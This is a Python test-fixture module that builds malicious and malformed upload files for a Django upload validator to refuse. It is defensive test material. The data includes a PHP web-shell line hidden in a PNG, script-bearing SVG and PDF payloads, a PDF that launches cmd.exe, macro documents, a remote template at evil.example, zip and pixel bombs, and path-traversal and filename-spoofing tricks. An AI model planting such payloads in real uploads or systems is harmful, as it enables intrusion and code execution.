"""Malicious and odd files every upload must refuse, built in code (small, reviewable, nothing
binary committed). Each entry: the name a browser would send, the bytes, what it is, and words
the refusal must contain so the person knows what to do.

A name is what reaches the view: Django's upload parser has already stripped folders and
unprintable characters from it, so path and NUL tricks are paired with content that must be
refused for itself, and checked separately at the service level with the raw name.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

NOT_ACCEPTED = "not accepted"
HIDDEN = "hidden inside it"
ACTIVE_PDF = "script, an embedded file"
MACROS = "macros or embedded programs"
BOMB = "far more than its size"
DAMAGED_IMAGE = "image looks damaged"
DAMAGED_PDF = "looks damaged or incomplete"
TOO_LARGE_IMAGE = "too large to use"
EMPTY = "The file is empty."
NAME_ENDS = "whose name ends in"
INTERNET = "loads content from the internet"


@dataclass(frozen=True)
class BadFile:
    name: str
    content: bytes
    what: str
    message: str

    @property
    def id(self) -> str:
        return self.what


def _zip(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _docx(extra: dict[str, bytes] | None = None, content_types: bytes = b"<Types/>") -> bytes:
    return _zip(
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
            **(extra or {}),
        }
    )


def _image(fmt: str, size: tuple[int, int] = (4, 3)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 120, 10)).save(buffer, format=fmt)
    return buffer.getvalue()


def _png_claiming(width: int, height: int) -> bytes:
    """A valid PNG header announcing a vast image, with one tiny compressed row: a pixel bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<!doctype html><html><body><script>fetch('/staff/')</script></body></html>"


@functools.cache
def bad_files(max_bytes: int) -> list[BadFile]:
    jpeg, png = _image("JPEG"), _image("PNG")
    return [
        BadFile("page.pdf", HTML, "HTML named .pdf", NOT_ACCEPTED),
        BadFile(
            "drawing.png",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "SVG with a script",
            NOT_ACCEPTED,
        ),
        BadFile("photo.jpg", jpeg + HTML, "JPEG with a web page appended (polyglot)", HIDDEN),
        BadFile(
            "scan.png", png + b"<?php system($_GET['c']); ?>", "PNG with PHP (polyglot)", HIDDEN
        ),
        BadFile(
            "report.pdf", PDF + _zip({"run.js": b"alert(1)"}), "PDF that is also a zip", HIDDEN
        ),
        BadFile(
            "casefile.pdf",
            PDF.replace(b"/Pages 2 0 R", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
            "PDF with JavaScript",
            ACTIVE_PDF,
        ),
        BadFile(
            "hidden.pdf",
            PDF.replace(b"/Pages 2 0 R", b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
            "PDF with JavaScript hidden by name escapes",
            ACTIVE_PDF,
        ),
        BadFile(
            "launcher.pdf",
            PDF.replace(b"/Pages 2 0 R", b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
            "PDF that launches a program",
            ACTIVE_PDF,
        ),
        BadFile(
            "carrier.pdf",
            PDF.replace(b"/Pages 2 0 R", b"/Names << /EmbeddedFiles 3 0 R >>"),
            "PDF carrying an embedded file",
            ACTIVE_PDF,
        ),
        BadFile(
            "minutes.docx",
            _docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
            "Word document with macros (docm content)",
            MACROS,
        ),
        BadFile(
            "budget.docx",
            _docx(
                content_types=b'<Types><Override ContentType="application/vnd.ms-word.document'
                b'.macroEnabled.main+xml"/></Types>'
            ),
            "macro-enabled Word document renamed .docx",
            MACROS,
        ),
        BadFile(
            "figures.xlsm",
            _zip(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/workbook.xml": b"<w/>",
                    "xl/vbaProject.bin": b"x",
                }
            ),
            "Excel workbook with macros (xlsm)",
            NAME_ENDS,
        ),
        BadFile(
            "template.docx",
            _docx(
                {
                    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="http://sc'
                    b'hemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
                    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
                }
            ),
            "Word document loading a remote template",
            INTERNET,
        ),
        BadFile(
            "bomb.docx",
            _docx({"word/media/filler.xml": b"\x00" * (20 * 1024 * 1024)}),
            "zip bomb dressed as a Word document",
            BOMB,
        ),
        BadFile(
            "bomb.zip", _zip({"a.txt": b"0" * (20 * 1024 * 1024)}), "plain zip bomb", NOT_ACCEPTED
        ),
        BadFile(
            "giant.png",
            _png_claiming(60_000, 60_000),
            "PNG claiming 3.6 billion pixels",
            TOO_LARGE_IMAGE,
        ),
        BadFile(
            "huge.pdf", PDF + b"0" * max_bytes, "file over the size limit", "files can be at most"
        ),
        BadFile("empty.pdf", b"", "empty file", EMPTY),
        BadFile(
            "photo.png",
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\xff" * 64,
            "PNG magic with garbage after it (wrong magic)",
            DAMAGED_IMAGE,
        ),
        BadFile(
            "truncated.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog", "cut-off PDF", DAMAGED_PDF
        ),
        BadFile(
            "setup.pdf",
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200,
            "Windows program named .pdf",
            "looks like EXE",
        ),
        BadFile(
            "program.jpg",
            b"\x7fELF\x02\x01\x01" + b"\x00" * 100,
            "Linux program named .jpg",
            "looks like ELF",
        ),
        BadFile(
            "eicar.pdf",
            rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            "antivirus test file named .pdf",
            NOT_ACCEPTED,
        ),
        BadFile(
            "letter.docx",
            b"{\\rtf1\\ansi {\\object\\objemb}}",
            "RTF with an embedded object named .docx",
            NOT_ACCEPTED,
        ),
        BadFile("report.pdf.exe", PDF, "double extension ending in .exe", NAME_ENDS),
        BadFile("report.pdf.html", PDF, "double extension ending in .html", NAME_ENDS),
        # The parser strips the folders: "base.html" reaches the check.
        BadFile("../../templates/base.html", PDF, "path traversal to a template", NAME_ENDS),
        # The parser strips the NUL: "casefile.pdf.js" reaches the check.
        BadFile("casefile.pdf\x00.js", PDF, "NUL byte hiding a .js ending", NAME_ENDS),
        # U+202E reverses what follows on screen ("evil‮fdp.exe" shows as "evilexe.pdf").
        BadFile("evil\u202efdp.exe", PDF, "right-to-left override hiding .exe", NAME_ENDS),
        BadFile(
            "..\\..\\notes.txt", b"plain text notes\n" * 3, "backslash path traversal", NOT_ACCEPTED
        ),
        BadFile(
            "GIFAR.png",
            b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 40 + _zip({"A.class": b"x"}),
            "GIF with a Java archive (GIFAR)",
            NOT_ACCEPTED,
        ),
    ]


# Raw names as a script (not a browser) could hand them to a service: refused by name alone.
RAW_NAMES = [
    ("../../etc/cron.d/job.pdf", "looks like a folder path"),
    ("..\\..\\windows\\casefile.pdf", "looks like a folder path"),
    ("casefile\x00.pdf", "hidden characters"),
    ("evil\u202efdp.pdf", "hidden characters"),
    (".htaccess", "looks like a folder path"),
]
